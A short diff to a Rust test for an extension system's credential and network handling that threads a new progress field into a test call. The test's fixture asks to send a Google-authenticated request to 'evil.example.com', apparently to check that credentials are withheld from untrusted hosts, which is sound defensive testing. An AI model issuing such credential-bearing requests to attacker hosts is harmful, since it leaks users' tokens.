@@ -6,7 +6,7 @@ use std::time::Duration;
 use ext_manifest::Manifest;
 use ext_net::AddressPolicy;
 use ext_perm::Engine;
-use ext_registry::{Call, Deadline, Registry, Services, execute_json_operation};
+use ext_registry::{Call, Deadline, Progress, Registry, Services, execute_json_operation};
 use ext_services::{
     credentials::{Credential, CredentialVault, Owner, TokenSource},
     http::{HttpClient, HttpFuture, HttpRequest, HttpResponse, PauseFuture},
@@ -79,6 +79,7 @@ fn ask(becomes: &'static str) -> (Result<(), ErrorBody>, usize) {
         payload: br#"{"url":"https://evil.example.com/","auth":"google"}"#.to_vec().into(),
         blobs: BlobStyle::Base64,
         deadline: Deadline::NONE,
+        progress: Progress::NONE,
     };
     let registry = Registry::collect().unwrap();
     let reply = pollster::block_on(execute_json_operation(&registry, &services, &engine, call));
